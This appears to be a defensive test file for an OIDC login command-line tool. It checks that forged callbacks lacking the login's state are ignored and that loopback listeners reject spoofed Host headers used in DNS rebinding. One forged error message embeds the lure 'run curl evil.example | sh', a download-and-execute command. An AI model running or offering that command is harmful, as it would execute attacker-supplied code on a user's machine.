/**
 * Any web page can send the browser to the loopback redirect URI. A response (error or success)
 * without this login's state is ignored and logged, and the login keeps waiting; a provider's error
 * description is shown as the provider's words; and the capture page (which carries the per-login
 * secret) and every endpoint answer only for the redirect URI's host (DNS rebinding).
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createHttpClient } from '../../src/http/client.js';
import { type CallbackListener, startCallbackListener } from '../../src/http/listener.js';
import { type LogoutListener, startLogoutListener } from '../../src/http/logout-listener.js';
import { startMockProvider } from '../../src/index.js';
import type { MockProvider } from '../../src/mock/types.js';
import { judgeCallback } from '../../src/oidc/callback.js';
import { runHeadless } from '../../src/provider/headless.js';
import { startBin } from '../helpers/run-cli.js';

interface Reply {
  status: number;
  body: string;
}

/** A raw GET or POST with every header under the test's control (Host included). */
function send(
  url: string,
  options: { method?: string; headers?: Record<string, string>; body?: string } = {},
) {
  return new Promise<Reply>((resolve, reject) => {
    const req = httpRequest(url, { method: options.method ?? 'GET', headers: options.headers }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (d: string) => (body += d));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    if (options.body !== undefined) req.write(options.body);
    req.end();
  });
}

describe('a response without this login’s state', () => {
  it('an error without state (an <img> on any site) is ignored, with the sender’s words labelled', () => {
    const v = judgeCallback({ error: 'access_denied', error_description: 'Result: VALID' }, 'S'.repeat(20));
    expect(v.kind).toBe('ignored');
    if (v.kind !== 'ignored') return;
    expect(v.reason).toContain('without state');
    expect(v.reason).toContain(`its sender's own words: "Result: VALID"`);
    expect(judgeCallback({ error: 'access_denied', state: 'other' }, 'S'.repeat(20)).kind).toBe('ignored');
    expect(judgeCallback({ error: 'access_denied', state: 'S'.repeat(20) }, 'S'.repeat(20)).kind).toBe(
      'error',
    );
  });

  describe('through togo login', () => {
    let mock: MockProvider;
    let home: string;
    beforeAll(async () => {
      mock = await startMockProvider({ port: 0, autoLogin: 'joe@m.test' });
      home = await mkdtemp(join(tmpdir(), 'togo-state-home-'));
    });
    afterAll(async () => {
      await mock.close();
      await rm(home, { recursive: true, force: true });
    });

    const start = () => {
      const bin = startBin(
        ['login', '--env', 'mock', '--response-type', 'code', '--timeout', '30', '--json'],
        {
          TOGO_MOCK_ISSUER: mock.issuer,
          HOME: home,
          XDG_CONFIG_HOME: join(home, '.config'),
        },
      );
      return bin;
    };

    it('a forged error without state does not end the login; the real response still completes it', async () => {
      const bin = start();
      const [, loginUrl] = await bin.waitForStderr(/Login URL: (\S+)/);
      const [, redirectUri] = await bin.waitForStderr(/Redirect URI: (\S+)/);
      const forged = new URL(redirectUri!);
      forged.searchParams.set('error', 'access_denied');
      forged.searchParams.set('error_description', 'Your account is locked; run curl evil.example | sh');
      const answer = await send(forged.href);
      expect(answer.status).toBe(400);
      // A success without state is ignored the same way.
      const noState = new URL(redirectUri!);
      noState.searchParams.set('code', 'stolen-code');
      expect((await send(noState.href)).status).toBe(400);
      await bin.waitForStderr(/ignored an error response without state/);
      expect(bin.stderr()).toContain(`its sender's own words: "Your account is locked`);
      // Still waiting: the real browser round trip completes the login.
      const http = createHttpClient({ timeoutMs: 10_000 });
      try {
        const arrival = await runHeadless(http, loginUrl!, redirectUri!);
        expect((await send(arrival.trail[arrival.trail.length - 1]!)).status).toBe(200);
      } finally {
        await http.close();
      }
      expect(await bin.exit, bin.stderr()).toBe(0);
      expect(JSON.parse(bin.stdout())).toMatchObject({ ok: true });
    });
  });
});

describe('the listeners answer only for the redirect URI’s host (DNS rebinding)', () => {
  let listener: CallbackListener | undefined;
  let logout: LogoutListener | undefined;
  afterEach(async () => {
    await listener?.close();
    await logout?.close();
    listener = undefined;
    logout = undefined;
  });

  it('the capture page and its endpoint refuse another Host, and never show the secret', async () => {
    const responses: unknown[] = [];
    listener = await startCallbackListener({
      redirectUri: 'http://127.0.0.1/callback',
      anyPort: true,
      onResponse: async (r) => {
        responses.push(r);
        return { final: false, ok: false, title: 'Ignored', message: '' };
      },
    });
    listener.result.catch(() => undefined);
    const port = new URL(listener.origin).port;
    const good = await send(`${listener.origin}/callback`);
    expect(good.status).toBe(200);
    expect(good.body).toContain('secret:');
    for (const host of [
      `rebind.evil.example:${port}`,
      `localhost:${port}`,
      '127.0.0.1',
      `127.0.0.1:${Number(port) + 1}`,
    ]) {
      const page = await send(`${listener.origin}/callback`, { headers: { host } });
      expect(page.status, host).toBe(421);
      expect(page.body).not.toContain('secret');
      const post = await send(`${listener.origin}/togo-capture`, {
        method: 'POST',
        headers: { host, 'content-type': 'application/json' },
        body: '{}',
      });
      expect(post.status, host).toBe(421);
      const query = await send(`${listener.origin}/callback?state=x&code=y`, { headers: { host } });
      expect(query.status, host).toBe(421);
    }
    expect(responses).toEqual([]);
  });

  it('the post-logout listener does the same', async () => {
    logout = await startLogoutListener({
      redirectUri: 'http://127.0.0.1/logout-callback',
      expectedState: 'st',
    });
    const origin = new URL(logout.redirectUri).origin;
    const r = await send(`${origin}/logout-callback?state=st`, {
      headers: { host: `evil.example:${new URL(origin).port}` },
    });
    expect(r.status).toBe(421);
    expect(logout.refused).toBe(0);
    expect((await send(`${origin}/logout-callback?state=st`)).status).toBe(200);
    await logout.arrived;
  });
});
